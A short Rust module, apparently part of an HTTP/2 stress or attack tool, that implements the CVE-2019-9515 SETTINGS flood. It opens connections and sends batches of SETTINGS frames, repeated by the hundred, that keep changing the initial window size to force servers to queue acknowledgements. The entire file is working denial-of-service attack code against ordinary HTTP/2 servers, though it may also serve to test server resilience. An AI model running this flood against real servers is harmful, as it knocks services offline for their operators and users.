//! HTTP/2 SETTINGS without end, each of which asks for an acknowledgement that nobody reads (CVE-2019-9515).

use super::super::attacker::Attacker;
use super::super::ends::Ends;
use super::super::frames::{INITIAL_WINDOW_SIZE, settings};
use super::super::http2::Connection;

/// Changes its mind all the time.
pub(super) async fn attack(attacker: &Attacker) -> Ends {
    attacker
        .with_each(|attacker, stream| async move {
            let connection = Connection::begin(attacker, stream, &[]).await;
            let batch: Vec<Vec<u8>> =
                (0..2).map(|index| settings(&[(INITIAL_WINDOW_SIZE, 65_535 - index)]).repeat(200)).collect();
            connection.flood(|index| batch[index as usize % batch.len()].clone()).await
        })
        .await
}
